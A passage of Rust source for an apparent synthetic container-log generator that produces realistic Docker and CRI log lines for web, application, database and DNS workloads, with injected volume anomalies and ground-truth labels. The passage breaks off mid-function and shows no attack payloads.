//! Container log files: Docker json-file and CRI lines with the content of real workloads.

use crate::cluster::{Cluster, Container, Style};
use crate::output::{Sink, Truth};
use crate::rng::Rng;
use crate::text::{json_str, json_str_html, Civil, Push};
use crate::timeline::{Clock, Timeline};
use crate::volume::VolumeAnomaly;
use crate::{FileKind, GenerateError};

/// Docker's json-file driver and containerd both cut lines at 16 KiB.
pub const SPLIT_BYTES: usize = 16 * 1024;

/// Share of records of the Go, Java and Python services that are one long line (17–64 KB,
/// split by the runtime).
pub(crate) const LONG_LINE_RATE: f64 = 0.001;

const STDOUT: &str = "stdout";
const STDERR: &str = "stderr";

/// A line that belongs to an attack, for the ground truth.
#[derive(Debug, Clone, Copy)]
struct Mark {
    attack: u64,
    pattern: &'static str,
    indicator: &'static str,
}

/// Random values for templates, apart from the buffers being written.
struct Fill<'a> {
    rng: Rng,
    cluster: &'a Cluster,
    c: &'a Container,
    /// Java/Python package of the app (`orders`, `payments`, ...).
    pkg: &'static str,
}

impl Fill<'_> {
    /// Appends `template` with its `{placeholders}` filled in.
    fn expand(&mut self, out: &mut Vec<u8>, template: &str) {
        let mut rest = template;
        while let Some(open) = rest.find('{') {
            out.s(&rest[..open]);
            let after = &rest[open + 1..];
            let name_len = after
                .find(|c: char| !(c.is_ascii_lowercase() || c.is_ascii_digit()))
                .unwrap_or(after.len());
            if name_len > 0 && after[name_len..].starts_with('}') {
                self.placeholder(out, &after[..name_len]);
                rest = &after[name_len + 1..];
            } else {
                out.push(b'{');
                rest = after;
            }
        }
        out.s(rest);
    }

    fn placeholder(&mut self, out: &mut Vec<u8>, name: &str) {
        let rng = &mut self.rng;
        match name {
            "app" => out.s(self.c.app),
            "pkg" => out.s(self.pkg),
            "ns" => out.s(self.c.namespace),
            "pod" => out.s(&self.c.pod),
            "ip" => out.s(&rng.pick(&self.cluster.containers).pod_ip),
            "svc" => {
                let (ns, app) = rng.pick(&self.cluster.apps);
                out.s(app);
                out.push(b'.');
                out.s(ns);
            }
            "hex4" => rng.hex(out, 4),
            "hex8" => rng.hex(out, 8),
            "hex12" => rng.hex(out, 12),
            "uuid" => rng.uuid(out),
            "ulid" => {
                out.s("01HM");
                rng.chars(out, b"0123456789ABCDEFGHJKMNPQRSTVWXYZ", 22);
            }
            "n2" => out.u(rng.range(2, 99)),
            "n3" => out.u(rng.range(10, 999)),
            "n4" => out.u(rng.range(100, 4999)),
            "n5" => out.u(rng.range(10_000, 99_999)),
            "pid" => out.u(rng.range(30, 32_000)),
            "ms" => out.fixed(rng.log_uniform(100.0, 5_000_000.0) as u64, 3),
            "id" => out.u(1 + rng.zipf(&self.cluster.product_skew) as u64),
            "order" => out.u(rng.range(1_000_000, 9_999_999)),
            "page" => out.u(1 + rng.zipf(&self.cluster.page_skew) as u64),
            "ext" => out.s(rng.pick_str(EXTERNAL_HOSTS)),
            "cat" => out.s(rng.pick_str(CATEGORIES)),
            "term" => out.s(rng.pick_str(SEARCH_TERMS)),
            "asset" => out.s(rng.pick_str(ASSET_HASHES)),
            "user" => out.s(rng.pick_str(USER_NAMES)),
            "port" => out.u(rng.range(32_768, 60_999)),
            other => {
                debug_assert!(false, "unknown placeholder {other}");
                out.push(b'{');
                out.s(other);
                out.push(b'}');
            }
        }
    }
}

/// Generates one container's log file.
pub(crate) struct ContainerFile<'a> {
    fill: Fill<'a>,
    clock: Clock<'a>,
    sink: Sink,
    truth: &'a mut Truth,
    kind: FileKind,
    /// The record being written (without its newline).
    text: Vec<u8>,
    /// A request path, or other piece reused while building `text`.
    scratch: Vec<u8>,
    /// The file lines of the record.
    line: Vec<u8>,
    attack_start: f64,
    /// nginx connection serial number.
    connection: u64,
    /// Upstreams of ingress-nginx: (app, `ns-app-port`, addresses).
    upstreams: Vec<(&'static str, String, Vec<String>)>,
    /// Addresses of the ingress controller pods (the clients nginx and the services see).
    ingress_ips: Vec<&'a str>,
    /// Injected volume anomalies of this container.
    anomalies: Vec<VolumeAnomaly>,
}

impl<'a> ContainerFile<'a> {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        cluster: &'a Cluster,
        c: &'a Container,
        kind: FileKind,
        sink: Sink,
        rng: Rng,
        timeline: &'a Timeline,
        events: u64,
        truth: &'a mut Truth,
        attack_rate: f64,
    ) -> ContainerFile<'a> {
        let pkg = c.app.split('-').next().unwrap_or(c.app);
        let upstreams = cluster
            .apps
            .iter()
            .map(|&(ns, app)| {
                let port = if app == "frontend" { 80 } else { 8080 };
                let addresses = cluster
                    .containers
                    .iter()
                    .filter(|x| x.app == app)
                    .map(|x| format!("{}:{port}", x.pod_ip))
                    .collect();
                (app, format!("{ns}-{app}-{port}"), addresses)
            })
            .collect();
        let mut ingress_ips: Vec<&str> = cluster
            .with_style(Style::Ingress)
            .map(|x| x.pod_ip.as_str())
            .collect();
        if ingress_ips.is_empty() {
            ingress_ips.push("10.244.0.1");
        }
        ContainerFile {
            ingress_ips,
            fill: Fill {
                rng,
                cluster,
                c,
                pkg,
            },
            clock: Clock::new(timeline, events, 1),
            sink,
            truth,
            kind,
            text: Vec::with_capacity(1024),
            scratch: Vec::with_capacity(256),
            line: Vec::with_capacity(2048),
            attack_start: attack_rate / mean_attack_len(c.style),
            connection: 1000,
            upstreams,
            anomalies: Vec::new(),
        }
    }

    /// Injects volume anomalies: lines within a dip are not written, lines within a spike
    /// are written `factor` times.
    pub fn with_anomalies(mut self, anomalies: Vec<VolumeAnomaly>) -> ContainerFile<'a> {
        self.anomalies = anomalies;
        self
    }

    /// Writes `events` records; returns the file's summary.
    pub fn run(mut self, events: u64) -> Result<crate::FileSummary, GenerateError> {
        let mut left = events;
        while left > 0 {
            let used = if self.attack_start > 0.0 && self.fill.rng.chance(self.attack_start) {
                self.attack(left)?
            } else {
                self.record(left)?
            };
            left -= used;
        }
        self.sink.finish()
    }

    fn next(&mut self) -> (i64, Civil) {
        let at = self.clock.next(&mut self.fill.rng);
        (at, Civil::from_nanos(at))
    }

    /// A continuation line (stack trace) a few microseconds after the previous one.
    fn follow(&mut self) -> (i64, Civil) {
        let at = self.clock.burst(&mut self.fill.rng, 5_000, 150_000);
        (at, Civil::from_nanos(at))
    }

    /// Writes `self.text` as one record on `stream` at `at`.
    fn emit(&mut self, at: i64, stream: &str, mark: Option<Mark>) -> Result<(), GenerateError> {
        if self.anomalies.iter().any(|a| !a.spike && a.covers(at)) {
            return Ok(());
        }
        self.line.clear();
        let mut lines = 0;
        let mut at_chunk = at;
        let mut rest: &[u8] = &self.text;
        loop {
            let split = rest.len() >= SPLIT_BYTES + usize::from(self.kind == FileKind::Cri);
            let (chunk, tail) = if split {
                let mut cut = SPLIT_BYTES;
                while rest.get(cut).is_some_and(|b| b & 0xc0 == 0x80) {
                    cut -= 1;
                }
                rest.split_at(cut)
            } else {
                (rest, &[][..])
            };
            let civil = Civil::from_nanos(at_chunk);
            match self.kind {
                FileKind::Docker => {
                    self.line.s("{\"log\":\"");
                    json_str_html(&mut self.line, chunk);
                    if !split {
                        self.line.s("\\n");
                    }
                    self.line.s("\",\"stream\":\"");
                    self.line.s(stream);
                    self.line.s("\",\"time\":\"");
                    civil.rfc3339_nano(&mut self.line);
                    self.line.s("\"}\n");
                }
                _ => {
                    civil.rfc3339_nano(&mut self.line);
                    self.line.push(b' ');
                    self.line.s(stream);
                    self.line.s(if split { " P " } else { " F " });
                    self.line.extend_from_slice(chunk);
                    self.line.push(b'\n');
                }
            }
            lines += 1;
            if !split {
                break;
            }
            rest = tail;
            at_chunk = self.clock.nudge(&mut self.fill.rng, 1_000, 40_000);
        }
        let first = self.sink.write(&self.line, lines)?;
        if let Some(mark) = mark {
            self.truth.record(
                mark.attack,
                mark.pattern,
                &self.sink,
                first,
                at,
                mark.indicator,
            );
        }
        self.inject(at, first, lines)
    }

    /// After the record written at `at` (file line `first`, `lines` lines): the spike's
    /// copies, and the ground truth of an anomaly seen for the first time.
    fn inject(&mut self, at: i64, first: u64, lines: u64) -> Result<(), GenerateError> {
        for i in 0..self.anomalies.len() {
            let anomaly = self.anomalies[i];
            let here = if anomaly.spike {
                anomaly.covers(at)
            } else {
                at >= anomaly.end_ns
            };
            if !here {
                continue;
            }
            if !anomaly.recorded {
                self.anomalies[i].recorded = true;
                self.record_anomaly(&anomaly, first, at);
            }
            if anomaly.spike {
                for _ in 1..anomaly.factor {
                    self.sink.write(&self.line, lines)?;
                }
            }
        }
        Ok(())
    }

    fn record_anomaly(&mut self, anomaly: &VolumeAnomaly, line: u64, at: i64) {
        let attack = self.truth.start();
        let indicator = format!(
            "{} of {}/{}/{}",
            anomaly.pattern(),
            self.fill.c.namespace,
            self.fill.c.pod,
            self.fill.c.name
        );
        self.truth
            .record(attack, anomaly.pattern(), &self.sink, line, at, &indicator);
        self.truth.set_range(anomaly.start_ns, anomaly.end_ns);
    }

    /// One ordinary record (several lines for stack traces); returns the events written.
    fn record(&mut self, left: u64) -> Result<u64, GenerateError> {
        let style = self.fill.c.style;
        if matches!(style, Style::GoJson | Style::Java | Style::Python)
            && self.fill.rng.chance(LONG_LINE_RATE)
        {
            return self.long_line();
        }
        match style {
            Style::Ingress => self.ingress(),
            Style::Nginx => self.nginx(),
            Style::GoJson => self.go_json(left),
            Style::Java => self.java(left),
            Style::Python => self.python(left),
            Style::Celery => self.celery(left),
            Style::Postgres => self.postgres(left),
            Style::Redis => self.redis(left),
            Style::CoreDns => self.coredns(),
            Style::Logfmt => self.logfmt(),
        }
    }

    /// Writes a request path into `scratch`; returns (method, class, upstream app).
    fn request_path(&mut self) -> (&'static str, Class, &'static str) {
        let &(method, template, class, app) = self.fill.rng.weighted(PATHS);
        self.scratch.clear();
        self.fill.expand(&mut self.scratch, template);
        (method, class, app)
    }

    /// Status, response bytes and seconds (in ms) for a request.
    fn response(&mut self, method: &str, class: Class) -> (u64, u64, u64) {
        let rng = &mut self.fill.rng;
        let mut status = match class {
            Class::Health => 200,
            Class::Static => *rng.weighted(STATIC_STATUS),
            Class::Api | Class::Page => *rng.weighted(API_STATUS),
        };
        if status == 200 && method == "POST" && rng.chance(0.6) {
            status = 201;
        }
        if status == 200 && method == "DELETE" {
            status = 204;
        }
        let bytes = match status {
            204 | 304 | 499 => 0,
            301 => 162,
            302 => 138,
            400..=599 => rng.range(150, 700),
            _ => match class {
                Class::Health => 2,
                Class::Static => rng.log_uniform(2_000.0, 600_000.0) as u64,
                Class::Page => rng.log_uniform(1_500.0, 60_000.0) as u64,
                Class::Api => rng.log_uniform(60.0, 25_000.0) as u64,
            },
        };
        let millis = match status {
            504 => rng.range(60_000, 60_010),
            499 => rng.range(1_000, 30_000),
            _ => match class {
                Class::Health | Class::Static => rng.range(0, 40),
                _ => rng.log_uniform(2.0, 800.0) as u64,
            },
        };
        (status, bytes, millis)
    }

    /// The combined log format, path from `scratch`.
    #[allow(clippy::too_many_arguments)]
    fn combined(
        &mut self,
        t: &Civil,
        client: &str,
        method: &str,
        status: u64,
        bytes: u64,
        referer: &str,
        agent: &str,
    ) {
        let out = &mut self.text;
        out.s(client);
        out.s(" - - [");
        t.clf(out);
        out.s("] \"");
        out.s(method);
        out.push(b' ');
        out.extend_from_slice(&self.scratch);
        out.s(" HTTP/1.1\" ");
        out.u(status);
        out.push(b' ');
        out.u(bytes);
        out.s(" \"");
        out.s(referer);
        out.s("\" \"");
        out.s(agent);
        out.push(b'"');
    }

    /// ingress-nginx's `log-format-upstream` (combined plus upstream fields), path from
    /// `scratch`.
    #[allow(clippy::too_many_arguments)]
    fn ingress_line(
        &mut self,
        t: &Civil,
        client: &str,
        method: &str,
        app: &str,
        status: u64,
        bytes: u64,
        millis: u64,
        referer: &str,
        agent: &str,
    ) {
        self.text.clear();
        let proto = if self.fill.rng.chance(0.7) {
            "HTTP/2.0"
        } else {
            "HTTP/1.1"
        };
        let out = &mut self.text;
        out.s(client);
        out.s(" - - [");
        t.clf(out);
        out.s("] \"");
        out.s(method);
        out.push(b' ');
        out.extend_from_slice(&self.scratch);
        out.push(b' ');
        out.s(proto);
        out.s("\" ");
        out.u(status);
        out.push(b' ');
        out.u(bytes);
        out.s(" \"");
        out.s(referer);
        out.s("\" \"");
        out.s(agent);
        out.s("\" ");
        out.u(self.fill.rng.range(180, 1400));
        out.push(b' ');
        out.fixed(millis, 3);
        let upstream = self.upstreams.iter().find(|(a, _, _)| *a == app);
        match upstream {
            Some((_, name, addresses)) if status != 499 && !addresses.is_empty() => {
                out.s(" [");
                out.s(name);
                out.s("] [] ");
                out.s(&addresses[self.fill.rng.below(addresses.len())]);
                out.push(b' ');
                out.u(bytes);
                out.push(b' ');
                out.fixed(millis.saturating_sub(self.fill.rng.range(0, 2)), 3);
                out.push(b' ');
                out.u(status);
            }
            _ => out.s(" [] [] - - - -"),
        }
        out.push(b' ');
        self.fill.rng.hex(out, 32);
    }

    fn ingress(&mut self) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        let roll = self.fill.rng.below(100);
        if roll < 93 {
            let (method, class, app) = self.request_path();
            let (status, bytes, millis) = self.response(method, class);
            let client = {
                let cluster = self.fill.cluster;
                &cluster.public_ips[self.fill.rng.zipf(&cluster.client_skew)]
            };
            let (agent, referer) = if class == Class::Health {
                ("ELB-HealthChecker/2.0", "-")
            } else {
                (
                    *self.fill.rng.weighted(USER_AGENTS),
                    *self.fill.rng.weighted(REFERERS),
                )
            };
            self.ingress_line(
                &t, client, method, app, status, bytes, millis, referer, agent,
            );
            self.emit(at, STDOUT, None)?;
        } else if roll < 97 {
            self.nginx_error(&t, true);
            self.emit(at, STDERR, None)?;
        } else {
            self.text.clear();
            let severity = if self.fill.rng.chance(0.8) {
                b'I'
            } else {
                b'W'
            };
            t.klog(&mut self.text, severity);
            self.text.s("       7 ");
            let template = if severity == b'I' {
                *self.fill.rng.pick(KLOG_INFO)
            } else {
                *self.fill.rng.pick(KLOG_WARN)
            };
            self.fill.expand(&mut self.text, template);
            self.emit(at, STDERR, None)?;
        }
        Ok(1)
    }

    /// An nginx error-log line into `text`.
    fn nginx_error(&mut self, t: &Civil, ingress: bool) {
        self.text.clear();
        t.date(&mut self.text, b'/');
        self.text.push(b' ');
        t.time(&mut self.text);
        let &(level, template) = self.fill.rng.weighted(NGINX_ERRORS);
        self.text.s(" [");
        self.text.s(level);
        self.text.s("] ");
        let worker = self.fill.rng.range(28, 45);
        self.text.u(worker);
        self.text.push(b'#');
        self.text.u(worker);
        self.text.s(": *");
        self.connection += self.fill.rng.range(1, 400);
        self.text.u(self.connection);
        self.text.push(b' ');
        self.fill.expand(&mut self.text, template);
        self.text.s(", client: ");
        if ingress {
            let cluster = self.fill.cluster;
            let client = &cluster.public_ips[self.fill.rng.zipf(&cluster.client_skew)];
            self.text.s(client);
        } else {
            self.fill.expand(&mut self.text, "{ip}");
        }
        self.text.s(", server: shop.example.com, request: \"GET ");
        let path =
            *self
                .fill
                .rng
                .pick(&["/api/v1/orders", "/api/v1/cart", "/", "/api/v1/products"]);
        self.text.s(path);
        self.text.s(" HTTP/1.1\", host: \"shop.example.com\"");
    }

    fn nginx(&mut self) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        if self.fill.rng.chance(0.97) {
            let (method, class, _) = self.request_path();
            let (status, bytes, _) = self.response(method, class);
            let client = self.ingress_ip();
            let agent = if class == Class::Health {
                "kube-probe/1.29"
            } else {
                *self.fill.rng.weighted(USER_AGENTS)
            };
            let referer = *self.fill.rng.weighted(REFERERS);
            self.text.clear();
            self.combined(&t, client, method, status, bytes, referer, agent);
            self.emit(at, STDOUT, None)?;
        } else {
            self.nginx_error(&t, false);
            self.emit(at, STDERR, None)?;
        }
        Ok(1)
    }

    /// The address of an ingress controller pod (the client nginx and the services see).
    fn ingress_ip(&mut self) -> &'a str {
        self.ingress_ips[self.fill.rng.below(self.ingress_ips.len())]
    }

    /// The address of a random pod.
    fn pod_ip(&mut self) -> &'a str {
        let cluster = self.fill.cluster;
        &cluster.containers[self.fill.rng.below(cluster.containers.len())].pod_ip
    }

    fn level(&mut self) -> Level {
        *self.fill.rng.weighted(LEVELS)
    }

    fn go_json(&mut self, left: u64) -> Result<u64, GenerateError> {
        if self.fill.rng.chance(0.002) && left >= 8 {
            return self.go_panic(left);
        }
        let (at, t) = self.next();
        let level = self.level();
        self.text.clear();
        self.text.s("{\"level\":\"");
        self.text.s(level.lower());
        self.text.s("\",\"ts\":\"");
        t.rfc3339(&mut self.text, 3);
        self.text.s("\",\"caller\":\"");
        let &(caller, msg, fields) = match level {
            Level::Info => self.fill.rng.weighted(GO_INFO),
            Level::Warn => self.fill.rng.weighted(GO_WARN),
            Level::Error => self.fill.rng.weighted(GO_ERROR),
        };
        self.fill.expand(&mut self.text, caller);
        self.text.s("\",\"msg\":\"");
        self.text.s(msg);
        self.text.s("\",\"request_id\":\"");
        self.fill.rng.uuid(&mut self.text);
        self.text.push(b'"');
        if fields == "{request}" {
            self.go_request_fields(level);
        } else {
            self.fill.expand(&mut self.text, fields);
        }
        if level == Level::Error {
            self.text.s(",\"stacktrace\":\"");
            self.fill.expand(&mut self.text, GO_STACKTRACE);
            self.text.push(b'"');
        }
        self.text.push(b'}');
        let stream = if level == Level::Error {
            STDERR
        } else {
            STDOUT
        };
        self.emit(at, stream, None)?;
        Ok(1)
    }

    fn go_request_fields(&mut self, level: Level) {
        let app = self.fill.c.app;
        let paths: &[(&str, &str)] = match app {
            "cart" => &[
                ("GET", "/v1/cart"),
                ("POST", "/v1/cart/items"),
                ("DELETE", "/v1/cart/items/{id}"),
            ],
            "auth-service" => &[
                ("POST", "/v1/token"),
                ("GET", "/v1/users/me"),
                ("POST", "/v1/sessions"),
            ],
            _ => &[
                ("GET", "/v1/orders/{order}"),
                ("GET", "/v1/orders"),
                ("POST", "/v1/orders"),
                ("POST", "/v1/checkout"),
            ],
        };
        let &(method, path) = self.fill.rng.pick(paths);
        let status = match level {
            Level::Info => {
                if method == "POST" {
                    201
                } else {
                    200
                }
            }
            Level::Warn => *self.fill.rng.pick(&[400, 401, 404, 409, 429]),
            Level::Error => *self.fill.rng.pick(&[500, 502, 503]),
        };
        self.text.s(",\"method\":\"");
        self.text.s(method);
        self.text.s("\",\"path\":\"");
        self.fill.expand(&mut self.text, path);
        self.text.s("\",\"status\":");
        self.text.u(status);
        self.text.s(",\"duration_ms\":");
        let micros = self.fill.rng.log_uniform(300.0, 900_000.0) as u64;
        self.text.fixed(micros, 3);
        self.text.s(",\"remote_addr\":\"");
        let ip = self.ingress_ip();
        self.text.s(ip);
        self.text.push(b':');
        self.text.u(self.fill.rng.range(32_768, 60_999));
        self.text.s("\",\"user_agent\":\"");
        let agent = *self.fill.rng.weighted(USER_AGENTS);
        json_str(&mut self.text, agent.as_bytes());
        self.text.push(b'"');
    }

    /// `http: panic serving ...` and the goroutine's stack, on stderr.
    fn go_panic(&mut self, left: u64) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        self.text.clear();
        t.date(&mut self.text, b'/');
        self.text.push(b' ');
        t.time(&mut self.text);
        self.text.s(" http: panic serving ");
        let ip = self.ingress_ip();
        self.text.s(ip);
        self.text.push(b':');
        self.text.u(self.fill.rng.range(32_768, 60_999));
        self.text.s(": ");
        let reason = *self.fill.rng.pick(GO_PANICS);
        self.fill.expand(&mut self.text, reason);
        self.emit(at, STDERR, None)?;
        let mut used = 1;
        for frame in GO_PANIC_FRAMES {
            if used == left {
                break;
            }
            let (at, _) = self.follow();
            self.text.clear();
            self.fill.expand(&mut self.text, frame);
            self.emit(at, STDERR, None)?;
            used += 1;
        }
        Ok(used)
    }

    /// Spring Boot's console pattern up to the message.
    fn java_prefix(&mut self, t: &Civil, level: &str) {
        self.text.clear();
        t.rfc3339(&mut self.text, 3);
        self.text.s(" ");
        self.text.s(level);
        self.text.s(" 1 --- [");
        self.text.s(self.fill.c.app);
        self.text.s("] [");
        // `%15.15t`: the thread name right-aligned in 15 columns, cut from the left.
        let mut thread = *b"nio-8080-exec-000";
        let n = self.fill.rng.range(1, 200);
        let digits = if n < 10 {
            1
        } else if n < 100 {
            2
        } else {
            3
        };
        let mut value = n;
        for i in 0..digits {
            thread[14 + digits - 1 - i] = b'0' + (value % 10) as u8;
            value /= 10;
        }
        let name = &thread[..14 + digits];
        for _ in name.len()..15 {
            self.text.push(b' ');
        }
        self.text
            .extend_from_slice(&name[name.len().saturating_sub(15)..]);
        self.text.s("] ");
    }

    /// The logger name, padded to 40 columns (`%-40.40logger{39}`), and ` : `.
    fn java_logger(&mut self, logger: &str) {
        let start = self.text.len();
        self.fill.expand(&mut self.text, logger.trim_end());
        while self.text.len() - start < 40 {
            self.text.push(b' ');
        }
        self.text.s(" : ");
    }

    fn java(&mut self, left: u64) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        let level = self.level();
        let (label, logger, message) = match level {
            Level::Info => {
                let &(logger, message) = self.fill.rng.weighted(JAVA_INFO);
                (" INFO", logger, message)
            }
            Level::Warn => {
                let &(logger, message) = self.fill.rng.weighted(JAVA_WARN);
                (" WARN", logger, message)
            }
            Level::Error => ("ERROR", JAVA_ERROR_LOGGER, ""),
        };
        self.java_prefix(&t, label);
        self.java_logger(logger);
        if level != Level::Error {
            self.fill.expand(&mut self.text, message);
            self.emit(at, STDOUT, None)?;
            return Ok(1);
        }
        let &(exception, detail) = self.fill.rng.pick(JAVA_EXCEPTIONS);
        self.text.s("Servlet.service() for servlet [dispatcherServlet] in context with path [] threw exception [Request processing failed: ");
        self.text.s(exception);
        self.text.s(": ");
        self.fill.expand(&mut self.text, detail);
        self.text.s("] with root cause");
        self.emit(at, STDERR, None)?;
        let mut used = 1;
        let mut lines: Vec<String> = Vec::with_capacity(32);
        let mut first = Vec::new();
        first.s(exception);
        first.s(": ");
        self.fill.expand(&mut first, detail);
        lines.push(String::from_utf8(first).expect("utf-8"));
        let app_frames = self.fill.rng.range(2, JAVA_APP_FRAMES.len() as u64) as usize;
        for frame in &JAVA_APP_FRAMES[..app_frames] {
            let mut out = Vec::new();
            self.fill.expand(&mut out, frame);
            lines.push(String::from_utf8(out).expect("utf-8"));
        }
        let framework = self.fill.rng.range(6, JAVA_FRAMEWORK_FRAMES.len() as u64) as usize;
        lines.extend(
            JAVA_FRAMEWORK_FRAMES[JAVA_FRAMEWORK_FRAMES.len() - framework..]
                .iter()
                .map(|s| (*s).to_owned()),
        );
        if self.fill.rng.chance(0.5) {
            let &(cause, text, frames) = self.fill.rng.pick(JAVA_CAUSES);
            lines.push(format!("Caused by: {cause}: {text}"));
            lines.extend(frames.iter().map(|s| (*s).to_owned()));
            lines.push(format!(
                "\t... {} common frames omitted",
                framework + app_frames
            ));
        }
        for line in lines {
            if used == left {
                break;
            }
            let (at, _) = self.follow();
            self.text.clear();
            self.text.s(&line);
            self.emit(at, STDERR, None)?;
            used += 1;
        }
        Ok(used)
    }

    /// Python `logging` prefix: `2024-01-01 00:00:01,123 INFO [pkg.module] `.
    fn python_prefix(&mut self, t: &Civil, level: &str) {
        self.text.clear();
        t.date(&mut self.text, b'-');
        self.text.push(b' ');
        t.time(&mut self.text);
        self.text.push(b',');
        self.text.pad(t.nanos / 1_000_000, 3);
        self.text.push(b' ');
        self.text.s(level);
        self.text.s(" [");
        self.text.s(self.fill.pkg);
        self.text.s(".api] ");
    }

    fn python(&mut self, left: u64) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        let roll = self.fill.rng.below(1000);
        if roll < 600 {
            let paths: &[(&str, &str, Class)] = if self.fill.c.app == "admin-portal" {
                ADMIN_PATHS
            } else {
                SCORING_PATHS
            };
            let &(method, path, class) = self.fill.rng.pick(paths);
            self.scratch.clear();
            self.fill.expand(&mut self.scratch, path);
            let (status, bytes, _) = self.response(method, class);
            let client = self.pod_ip();
            let agent = if class == Class::Health {
                "kube-probe/1.29"
            } else if self.fill.c.app == "admin-portal" {
                *self.fill.rng.weighted(USER_AGENTS)
            } else {
                "Go-http-client/1.1"
            };
            self.text.clear();
            self.combined(&t, client, method, status, bytes, "-", agent);
            self.emit(at, STDOUT, None)?;
            return Ok(1);
        }
        if roll < 605 {
            self.text.clear();
            self.text.push(b'[');
            t.date(&mut self.text, b'-');
            self.text.push(b' ');
            t.time(&mut self.text);
            self.text.s(" +0000] ");
            let template = *self.fill.rng.pick(GUNICORN);
            self.fill.expand(&mut self.text, template);
            self.emit(at, STDERR, None)?;
            return Ok(1);
        }
        let level = self.level();
        match level {
            Level::Error => {
                self.python_prefix(&t, "ERROR");
                let method = if self.fill.c.app == "admin-portal" {
                    "Internal Server Error: /admin/orders/"
                } else {
                    "Exception on /score [POST]"
                };
                self.text.s(method);
                self.emit(at, STDERR, None)?;
                Ok(1 + self.python_traceback(left - 1)?)
            }
            _ => {
                let (label, template) = if level == Level::Warn {
                    ("WARNING", *self.fill.rng.pick(PYTHON_WARN))
                } else {
                    ("INFO", *self.fill.rng.pick(PYTHON_INFO))
                };
                self.python_prefix(&t, label);
                self.fill.expand(&mut self.text, template);
                self.emit(at, STDERR, None)?;
                Ok(1)
            }
        }
    }

    /// A Python traceback of at most `left` lines; returns the lines written.
    fn python_traceback(&mut self, left: u64) -> Result<u64, GenerateError> {
        let frames = 2 * self.fill.rng.range(1, PYTHON_FRAMES.len() as u64 / 2) as usize;
        let &(error, app_frames) = self.fill.rng.pick(PYTHON_ERRORS);
        let mut lines: Vec<&str> = vec!["Traceback (most recent call last):"];
        lines.extend_from_slice(&PYTHON_FRAMES[PYTHON_FRAMES.len() - frames..]);
        lines.extend_from_slice(app_frames);
        lines.push(error);
        let mut used = 0;
        for line in lines {
            if used == left {
                break;
            }
            let (at, _) = self.follow();
            self.text.clear();
            self.fill.expand(&mut self.text, line);
            self.emit(at, STDERR, None)?;
            used += 1;
        }
        Ok(used)
    }

    fn celery(&mut self, left: u64) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        let level = self.level();
        self.text.clear();
        self.text.push(b'[');
        t.date(&mut self.text, b'-');
        self.text.push(b' ');
        t.time(&mut self.text);
        self.text.push(b',');
        self.text.pad(t.nanos / 1_000_000, 3);
        let template = match level {
            Level::Info => *self.fill.rng.pick(CELERY_INFO),
            Level::Warn => *self.fill.rng.pick(CELERY_WARN),
            Level::Error => CELERY_ERROR,
        };
        self.fill.expand(&mut self.text, template);
        self.emit(at, STDERR, None)?;
        if level == Level::Error {
            return Ok(1 + self.python_traceback(left - 1)?);
        }
        Ok(1)
    }

    fn postgres_prefix(&mut self, t: &Civil, pid: u64) {
        self.text.clear();
        t.date(&mut self.text, b'-');
        self.text.push(b' ');
        t.time(&mut self.text);
        t.frac(&mut self.text, 3);
        self.text.s(" UTC [");
        self.text.u(pid);
        self.text.s("] ");
    }

    fn postgres(&mut self, left: u64) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        let pid = self.fill.rng.range(60, 9_999);
        self.postgres_prefix(&t, pid);
        let roll = self.fill.rng.below(100);
        if roll < 85 {
            let template = *self.fill.rng.pick(POSTGRES_LOG);
            self.fill.expand(&mut self.text, template);
        } else if roll < 88 {
            let template = *self.fill.rng.pick(POSTGRES_FATAL);
            self.fill.expand(&mut self.text, template);
        } else {
            let &(error, detail, statement) = self.fill.rng.pick(POSTGRES_ERRORS);
            self.fill.expand(&mut self.text, error);
            self.emit(at, STDERR, None)?;
            let mut used = 1;
            for extra in [detail, statement] {
                if used == left || extra.is_empty() {
                    continue;
                }
                let (at, t) = self.follow();
                self.postgres_prefix(&t, pid);
                self.fill.expand(&mut self.text, extra);
                self.emit(at, STDERR, None)?;
                used += 1;
            }
            return Ok(used);
        }
        self.emit(at, STDERR, None)?;
        Ok(1)
    }

    fn redis_line(&mut self, t: &Civil, pid: u64, role: u8, template: &str) {
        self.text.clear();
        self.text.u(pid);
        self.text.push(b':');
        self.text.push(role);
        self.text.push(b' ');
        t.redis(&mut self.text);
        self.text.push(b' ');
        self.fill.expand(&mut self.text, template);
    }

    fn redis(&mut self, left: u64) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        if self.fill.rng.chance(0.05) || left < REDIS_SAVE.len() as u64 {
            let template = *self.fill.rng.pick(REDIS_OTHER);
            self.redis_line(&t, 1, b'M', template);
            self.emit(at, STDOUT, None)?;
            return Ok(1);
        }
        let child = self.fill.rng.range(20, 30_000);
        for (i, &(child_line, template)) in REDIS_SAVE.iter().enumerate() {
            let (at, t) = if i == 0 {
                (at, t)
            } else {
                let at = self.clock.burst(&mut self.fill.rng, 1_000_000, 80_000_000);
                (at, Civil::from_nanos(at))
            };
            let (pid, role) = if child_line { (child, b'C') } else { (1, b'M') };
            self.redis_line(&t, pid, role, template);
            self.emit(at, STDOUT, None)?;
        }
        Ok(REDIS_SAVE.len() as u64)
    }

    fn coredns(&mut self) -> Result<u64, GenerateError> {
        let (at, _) = self.next();
        self.text.clear();
        if self.fill.rng.chance(0.005) {
            self.fill.expand(
                &mut self.text,
                "[ERROR] plugin/errors: 2 {ext}. AAAA: read udp {ip}:{port}->10.0.0.2:53: i/o timeout",
            );
            self.emit(at, STDOUT, None)?;
            return Ok(1);
        }
        self.text.s("[INFO] ");
        let client = self.pod_ip();
        self.text.s(client);
        self.text.push(b':');
        self.text.u(self.fill.rng.range(32_768, 60_999));
        self.text.s(" - ");
        self.text.u(self.fill.rng.range(1, 65_535));
        self.text.s(" \"");
        let qtype = *self
            .fill
            .rng
            .weighted(&[("A", 60), ("AAAA", 35), ("SRV", 2), ("PTR", 3)]);
        self.text.s(qtype);
        self.text.s(" IN ");
        let roll = self.fill.rng.below(100);
        let (answer, flags, external) = if roll < 55 {
            self.fill.expand(&mut self.text, "{svc}.svc.cluster.local.");
            ("NOERROR", "qr,aa,rd", false)
        } else if roll < 85 {
            let (ns, app) = *self.fill.rng.pick(&self.fill.cluster.apps);
